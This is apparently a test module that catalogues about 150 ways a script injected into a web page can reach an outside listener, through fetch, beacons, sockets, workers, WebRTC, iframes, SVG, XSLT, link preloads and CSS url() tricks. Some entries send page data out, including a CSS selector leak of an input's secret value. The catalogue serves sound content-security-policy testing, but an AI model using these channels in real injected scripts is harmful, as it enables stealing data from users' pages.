// What a script that was injected into a page tries in order to reach a server: each entry is run
// in the page, with the addresses of a listener of its own. `put` adds an element to the page.
// Ways to load something; leaving.mjs has the ways to go somewhere.

/** A page within the page, in whatever form. */
const leakingPage = ({ http }) => `<img src="${http}"><script>fetch("${http}")</script>`;

const svg = (inside) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${inside}</svg>`;

/** A style sheet that no policy of markup sees: it is made by calls. */
const adopt = (rules) =>
  `const sheet = new CSSStyleSheet(); sheet.replaceSync(${JSON.stringify(rules)}); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];`;

const box = (property, value) => `put("p", {}).style.setProperty("${property}", \`${value}\`);`;

const html = (markup) => `put("div", {}).innerHTML = ${JSON.stringify(markup)};`;

const worker = (kind, source) =>
  `new ${kind}(URL.createObjectURL(new Blob([${JSON.stringify(source)}], { type: "text/javascript" })));`;

const rtc = (servers) => `
  const connection = new RTCPeerConnection({ iceServers: ${JSON.stringify(servers)} });
  connection.createDataChannel("x");
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));`;

const link = (attributes) => `put("link", ${JSON.stringify(attributes)}, document.head);`;

/** Name of the attempt and its script, for the addresses of its listener. */
export const LOADING = {
  fetch: ({ http }) => `fetch("${http}")`,
  "fetch, no-cors POST": ({ http }) =>
    `fetch("${http}", { method: "POST", mode: "no-cors", body: document.title })`,
  "fetch, keepalive": ({ http }) => `fetch("${http}", { keepalive: true, mode: "no-cors" })`,
  "fetch, localhost by name": ({ byName }) => `fetch("${byName}", { mode: "no-cors" })`,
  "fetch, https": ({ https }) => `fetch("${https}", { mode: "no-cors" })`,
  "fetch, address in decimal": ({ decimal }) => `fetch("${decimal}", { mode: "no-cors" })`,
  "fetch, name and password": ({ http }) =>
    `fetch(new Request("${http}", { credentials: "include", mode: "no-cors" }))`,
  "fetch from an idle callback": ({ http }) => `setTimeout(() => fetch("${http}"), 0)`,
  XMLHttpRequest: ({ http }) =>
    `const request = new XMLHttpRequest(); request.open("GET", "${http}"); request.send();`,
  "XMLHttpRequest, synchronous": ({ http }) =>
    `const request = new XMLHttpRequest(); request.open("POST", "${http}", false); request.send("x");`,
  sendBeacon: ({ http }) => `navigator.sendBeacon("${http}", "x")`,
  WebSocket: ({ ws }) => `new WebSocket("${ws}")`,
  "WebSocket, wss": ({ wss }) => `new WebSocket("${wss}")`,
  EventSource: ({ http }) => `new EventSource("${http}")`,
  WebTransport: ({ https }) => `new WebTransport("${https}")`,
  "WebAssembly, streaming": ({ http }) => `WebAssembly.instantiateStreaming(fetch("${http}"))`,
  "import()": ({ http }) => `import("${http}")`,
  "import() of JSON": ({ http }) =>
    `put("script", { type: "module", textContent: 'import("${http}", { with: { type: "json" } })' })`,
  "the cache's add": ({ http }) => `caches.open("x").then((cache) => cache.add("${http}"))`,

  "Worker at an address": ({ http }) => `new Worker("${http}")`,
  "Worker from a blob, fetch": ({ http }) => worker("Worker", `fetch("${http}")`),
  "Worker from a blob, importScripts": ({ http }) => worker("Worker", `importScripts("${http}")`),
  "Worker from a blob, WebSocket": ({ ws }) => worker("Worker", `new WebSocket("${ws}")`),
  "Worker from a data address": ({ http }) =>
    `new Worker("data:text/javascript," + encodeURIComponent('fetch("${http}")'))`,
  "Worker, module": ({ http }) => worker("Worker", `import("${http}")`),
  "SharedWorker from a blob": ({ http }) => worker("SharedWorker", `fetch("${http}")`),
  "SharedWorker at an address": ({ http }) => `new SharedWorker("${http}")`,
  ServiceWorker: ({ http }) => `navigator.serviceWorker.register("${http}")`,
  "AudioWorklet at an address": ({ http }) =>
    `new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule("${http}")`,
  "AudioWorklet that imports": ({ http }) =>
    `new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(
       URL.createObjectURL(new Blob(['import "${http}"'], { type: "text/javascript" })))`,
  "paint worklet": ({ http }) => `CSS.paintWorklet.addModule("${http}")`,

  "WebRTC, STUN": ({ udp }) => rtc([{ urls: `stun:${udp}` }]),
  "WebRTC, TURN over TCP": ({ host }) =>
    rtc([{ urls: `turn:${host}?transport=tcp`, username: "x", credential: "x" }]),

  script: ({ http }) => `put("script", { src: "${http}" })`,
  "script, module": ({ http }) => `put("script", { src: "${http}", type: "module" })`,
  "script within the page": ({ http }) => `put("script", { textContent: 'fetch("${http}")' })`,
  "script in an SVG": ({ http }) => html(svg(`<script href="${http}"/>`)),
  "handler in an attribute": ({ http }) => html(`<img src="data:," onerror="fetch('${http}')">`),
  eval: ({ http }) => `eval('fetch("${http}")')`,
  "import map": ({ http }) => `
    put("script", { type: "importmap", textContent: '{"imports":{"x":"${http}"}}' }, document.head);
    put("script", { type: "module", textContent: 'import "x"' });`,
  "speculation rules": ({ http }) =>
    `put("script", { type: "speculationrules", textContent: '{"prefetch":[{"source":"list","urls":["${http}"]}]}' })`,

  Image: ({ http }) => `new Image().src = "${http}"`,
  "img srcset": ({ http }) => `put("img", { srcset: "${http} 2x, ${http}?1 1x" })`,
  picture: ({ http }) => html(`<picture><source srcset="${http}"><img></picture>`),
  "img in a shadow root": ({ http }) =>
    `put("div", {}).attachShadow({ mode: "closed" }).innerHTML = '<img src="${http}">'`,
  "img in a declarative shadow root": ({ http }) =>
    `put("div", {}).setHTMLUnsafe('<p><template shadowrootmode="open"><img src="${http}"></template></p>')`,
  "img from a fragment": ({ http }) =>
    `document.body.append(document.createRange().createContextualFragment('<img src="${http}">'))`,
  "img by an editing command": ({ http }) => `
    const field = put("div", { contentEditable: "true" }); field.focus();
    document.execCommand("insertHTML", false, '<img src="${http}">')`,
  "img from another document": ({ http }) => `
    const other = new DOMParser().parseFromString('<img src="${http}">', "text/html");
    document.body.append(document.adoptNode(other.images[0]))`,
  "image input": ({ http }) => `put("input", { type: "image", src: "${http}" })`,
  "body background": ({ http }) => `document.body.setAttribute("background", "${http}")`,
  "table background": ({ http }) =>
    html(`<table background="${http}"><tr><td background="${http}">x</table>`),
  video: ({ http }) => `put("video", { src: "${http}", preload: "auto" })`,
  "video poster": ({ http }) => `put("video", { poster: "${http}" })`,
  "video source": ({ http }) => html(`<video preload="auto"><source src="${http}"></video>`),
  "video, a play list in a blob": ({ http }) => `
    const list = "#EXTM3U\\n#EXT-X-TARGETDURATION:1\\n#EXTINF:1,\\n${http}\\n#EXT-X-ENDLIST\\n";
    put("video", { preload: "auto", src: URL.createObjectURL(new Blob([list], { type: "application/vnd.apple.mpegurl" })) }).play()`,
  audio: ({ http }) => `new Audio("${http}").play()`,
  track: ({ http }) => `
    const video = put("video", { crossOrigin: "anonymous" });
    put("track", { src: "${http}", default: true, kind: "subtitles" }, video).track.mode = "showing"`,
  "media session artwork": ({ http }) =>
    `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: "${http}" }] })`,
  "notification icon": ({ http }) => `new Notification("x", { icon: "${http}" })`,
  object: ({ http }) => `put("object", { data: "${http}" })`,
  embed: ({ http }) => `put("embed", { src: "${http}" })`,
  iframe: ({ http }) => `put("iframe", { src: "${http}" })`,
  "iframe, srcdoc": (at) => `put("iframe", { srcdoc: ${JSON.stringify(leakingPage(at))} })`,
  "iframe, data address": (at) =>
    `put("iframe", { src: "data:text/html," + encodeURIComponent(${JSON.stringify(leakingPage(at))}) })`,
  "iframe, blob": (at) =>
    `put("iframe", { src: URL.createObjectURL(new Blob([${JSON.stringify(leakingPage(at))}], { type: "text/html" })) })`,
  "iframe, javascript": ({ http }) => `put("iframe", { src: 'javascript:fetch("${http}")' })`,
  "iframe, empty and written to": (at) =>
    `put("iframe", {}).contentDocument.write(${JSON.stringify(leakingPage(at))})`,
  "iframe, its own fetch": ({ http }) => `put("iframe", {}).contentWindow.fetch("${http}")`,
  "iframe, its own WebSocket": ({ ws }) =>
    `const inner = put("iframe", {}).contentWindow; new inner.WebSocket("${ws}")`,
  frame: ({ http }) => html(`<iframe src="data:text/html,<frameset><frame src='${http}'>">`),
  "document.write": (at) => {
    const markup = JSON.stringify(leakingPage(at));
    // Into a document of its own: the page must be there for those that follow.
    return `const other = document.implementation.createHTMLDocument(); other.write(${markup}); document.body.append(...other.body.childNodes)`;
  },
  "base, then a relative image": ({ origin, path }) => `
    put("base", { href: "${origin}" }, document.head);
    put("img", {}).setAttribute("src", "${path}")`,

  "SVG image": ({ http }) => html(svg(`<image href="${http}" width="9" height="9"/>`)),
  "SVG image, xlink": ({ http }) => html(svg(`<image xlink:href="${http}" width="9" height="9"/>`)),
  "SVG use": ({ http }) => html(svg(`<use href="${http}#x"/>`)),
  "SVG feImage": ({ http }) =>
    html(
      svg(
        `<filter id="f"><feImage href="${http}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
      ),
    ),
  "SVG foreignObject": ({ http }) =>
    html(
      svg(
        `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${http}"/></foreignObject>`,
      ),
    ),
  "SVG that sets an address": ({ http }) =>
    html(
      svg(
        `<image width="9" height="9"><set attributeName="href" to="${http}" begin="0s"/></image>`,
      ),
    ),
  "SVG style": ({ http }) => html(svg(`<style>@import url("${http}");</style>`)),
  "SVG in a data address, image": ({ http }) =>
    `new Image().src = "data:image/svg+xml," + encodeURIComponent(${JSON.stringify(svg(`<image href="${http}" width="9" height="9"/>`))})`,
  "SVG in a data address, style": ({ http }) =>
    `new Image().src = "data:image/svg+xml," + encodeURIComponent(${JSON.stringify(svg(`<style>@import url("${http}");</style>`))})`,
  "SVG in a data address, HTML": ({ http }) =>
    `put("img", { src: "data:image/svg+xml," + encodeURIComponent(${JSON.stringify(svg(`<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${http}"/></foreignObject>`))}) })`,
  XSLT: ({ http }) => `
    const parse = (text) => new DOMParser().parseFromString(text, "text/xml");
    const processor = new XSLTProcessor();
    processor.importStylesheet(parse('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${http}"/><xsl:template match="/"><x><xsl:value-of select="document(\\'${http}\\')"/></x></xsl:template></xsl:stylesheet>'));
    processor.transformToDocument(parse("<x/>"))`,
  "XML entity": ({ http }) =>
    `new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e SYSTEM "${http}">]><x>&e;</x>', "text/xml")`,

  "link, stylesheet": ({ http }) => link({ rel: "stylesheet", href: http }),
  "link, icon": ({ http }) => link({ rel: "icon", href: http }),
  "link, touch icon": ({ http }) => link({ rel: "apple-touch-icon", href: http }),
  "link, manifest": ({ http }) => link({ rel: "manifest", href: http }),
  "link, preload of an image": ({ http }) => link({ rel: "preload", as: "image", href: http }),
  "link, preload of a set": ({ http }) =>
    `put("link", { rel: "preload", as: "image", imageSrcset: "${http} 1x" }, document.head)`,
  "link, preload of a font": ({ http }) =>
    link({ rel: "preload", as: "font", crossOrigin: "anonymous", href: http }),
  "link, preload for fetch": ({ http }) =>
    link({ rel: "preload", as: "fetch", crossOrigin: "anonymous", href: http }),
  "link, preload of a script": ({ http }) => link({ rel: "preload", as: "script", href: http }),
  "link, preload of a style sheet": ({ http }) => link({ rel: "preload", as: "style", href: http }),
  "link, modulepreload": ({ http }) => link({ rel: "modulepreload", href: http }),
  "link, prefetch": ({ http }) => link({ rel: "prefetch", href: http }),
  "link, prerender": ({ http }) => link({ rel: "prerender", href: http }),
  "link, preconnect": ({ http }) => link({ rel: "preconnect", href: http }),
  "link, preconnect with CORS": ({ http }) =>
    link({ rel: "preconnect", crossOrigin: "anonymous", href: http }),
  "link, preconnect to https": ({ https }) => link({ rel: "preconnect", href: https }),
  "link, dns-prefetch": ({ http }) => link({ rel: "dns-prefetch", href: http }),
  "link, preconnect in the body's markup": ({ http }) =>
    html(`<link rel="preconnect" href="${http}">`),

  "style, @import": ({ http }) => `put("style", { textContent: '@import url("${http}");' })`,
  "style, background": ({ http }) =>
    `put("style", { textContent: 'body { background: url("${http}"); }' })`,
  "style attribute": ({ http }) => html(`<p style="background: url(${http})">x`),
  "CSS calls: background": ({ http }) => box("background-image", `url(${http})`),
  "CSS calls: image-set": ({ http }) => box("background-image", `image-set(url(${http}) 1x)`),
  "CSS calls: cross-fade": ({ http }) =>
    box("background-image", `-webkit-cross-fade(url(${http}), url(${http}?1), 50%)`),
  "CSS calls: cursor": ({ http }) => box("cursor", `url(${http}), auto`),
  "CSS calls: list": ({ http }) =>
    `put("ul", {}).append(put("li", { textContent: "x" })); document.querySelector("ul:last-of-type").style.listStyleImage = "url(${http})"; put("li", { textContent: "x" }).style.listStyle = "url(${http})"`,
  "CSS calls: border": ({ http }) =>
    `put("p", {}).style.cssText = "border: 5px solid; border-image: url(${http}) 3"`,
  "CSS calls: mask": ({ http }) => box("mask-image", `url(${http})`),
  "CSS calls: mask of an SVG": ({ http }) => box("mask", `url(${http}#x)`),
  "CSS calls: clip": ({ http }) => box("clip-path", `url(${http}#x)`),
  "CSS calls: filter": ({ http }) => box("filter", `url(${http}#x)`),
  "CSS calls: shape": ({ http }) =>
    `put("p", {}).style.cssText = "float: left; shape-outside: url(${http})"`,
  "CSS calls: a variable": ({ http }) =>
    `put("p", {}).style.cssText = "--x: url(${http}); background: var(--x)"`,
  "CSS calls: attr()": ({ http }) =>
    `put("p", { title: "${http}" }).style.cssText = 'background: image-set(attr(title)); content: attr(title type(<url>))'`,
  "adopted sheet: background": ({ http }) => adopt(`body { background-image: url("${http}") }`),
  "adopted sheet: content": ({ http }) => adopt(`body::before { content: url("${http}") }`),
  "adopted sheet: what an attribute begins with": ({ http }) =>
    `put("input", { name: "x" }).setAttribute("value", "secret"); ${adopt(`input[value^="s"] { background: url("${http}") }`)}`,
  "adopted sheet: font": ({ http }) =>
    `put("p", { textContent: "x" }); ${adopt(`@font-face { font-family: X; src: url("${http}") } p { font-family: X }`)}`,
  "adopted sheet: a font for some letters": ({ http }) =>
    `put("p", { textContent: "x" }); ${adopt(`@font-face { font-family: Y; src: url("${http}"); unicode-range: U+78 } p { font-family: Y }`)}`,
  "rule put into a sheet: @import": ({ http }) => `
    const style = put("style", {}); (style.sheet ?? document.styleSheets[0]).insertRule('@import url("${http}");', 0)`,
  "rule put into a sheet: background": ({ http }) => `
    const style = put("style", {}); (style.sheet ?? document.styleSheets[0]).insertRule('html { background: url("${http}"); }', 0)`,
  "sheet of a processing instruction": ({ http }) =>
    `document.insertBefore(document.createProcessingInstruction("xml-stylesheet", 'href="${http}" type="text/css"'), document.documentElement)`,
  FontFace: ({ http }) => `new FontFace("Z", "url(${http})").load()`,
  "report of a policy": ({ http }) => `
    put("meta", { httpEquiv: "Content-Security-Policy", content: "img-src 'none'; report-uri ${http}" }, document.head);
    new Image().src = "data:image/gif;base64,AAAA";
    put("script", { src: "data:," })`,
};
